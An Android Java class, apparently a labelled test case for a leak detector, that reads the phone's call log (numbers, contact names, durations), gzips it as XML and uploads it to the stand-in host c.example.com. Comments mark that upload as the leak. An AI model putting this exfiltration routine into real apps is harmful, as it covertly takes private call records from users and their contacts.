package stealers;

import android.app.job.*;
import android.content.*;
import android.database.*;
import android.provider.CallLog;

import okhttp3.*;

import java.io.*;
import java.util.zip.GZIPOutputStream;

/** The list of calls as XML, packed, in a part of a form. */
public class CallXml extends JobService {
    /** What hides the cursor. */
    static class Row {
        private final Cursor c;

        Row(Cursor c) {
            this.c = c;
        }

        boolean next() {
            return c.moveToNext();
        }

        String text(String column) {
            int i = c.getColumnIndex(column);
            return i < 0 ? "" : c.getString(i);
        }

        long number(String column) {
            return c.getLong(c.getColumnIndex(column));
        }
    }

    @Override
    public boolean onStartJob(final JobParameters p) {
        new Thread(
                        new Runnable() {
                            public void run() {
                                try {
                                    work();
                                } catch (IOException e) {
                                    jobFinished(p, true);
                                }
                            }
                        })
                .start();
        return true;
    }

    @Override
    public boolean onStopJob(JobParameters p) {
        return false;
    }

    void work() throws IOException {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?><calls>");
        int count = 0;
        Row row = new Row(getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, CallLog.Calls.DATE + " DESC"));
        while (row.next()) {
            xml.append("<call number=\"").append(row.text(CallLog.Calls.NUMBER)).append("\" name=\"");
            xml.append(row.text(CallLog.Calls.CACHED_NAME)).append("\" s=\"").append(row.number("duration")).append("\"/>");
            count++;
        }
        xml.append("</calls>");
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        GZIPOutputStream gzip = new GZIPOutputStream(bytes);
        gzip.write(xml.toString().getBytes("UTF-8"));
        gzip.close();
        RequestBody part = RequestBody.create(MediaType.parse("application/octet-stream"), bytes.toByteArray());
        MultipartBody body =
                new MultipartBody.Builder()
                        .setType(MultipartBody.FORM)
                        .addFormDataPart("id", "7")
                        .addFormDataPart("file", "calls.gz", part)
                        .build();
        OkHttpClient client = new OkHttpClient();
        client.newCall(new Request.Builder().url("https://c.example.com/up").post(body).build()).execute(); // leak
        MultipartBody other =
                new MultipartBody.Builder().addFormDataPart("count", "n" + (count > 0 ? "some" : "none")).build();
        client.newCall(new Request.Builder().url("https://c.example.com/n").post(other).build()).execute(); // no leak
    }
}
